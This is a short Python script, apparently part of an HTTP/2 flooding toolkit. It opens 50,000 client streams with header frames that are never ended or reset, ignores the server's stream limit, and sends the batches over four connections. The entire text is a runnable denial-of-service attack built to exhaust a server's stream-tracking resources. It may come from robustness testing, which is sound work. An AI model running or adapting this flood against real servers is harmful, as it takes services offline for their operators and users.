"""Streams that are begun and neither end nor are reset, by a client that never acknowledges how many it may have."""

import flood
from http2_connection import END_HEADERS, HEADERS, frame

STREAMS = 50_000


def parts():
    block = flood.header_block()
    frames = [frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 2 * STREAMS, 2)]
    return [b"".join(frames[i : i + 500]) for i in range(0, STREAMS, 500)]


if __name__ == "__main__":
    flood.main(parts, connections=4)
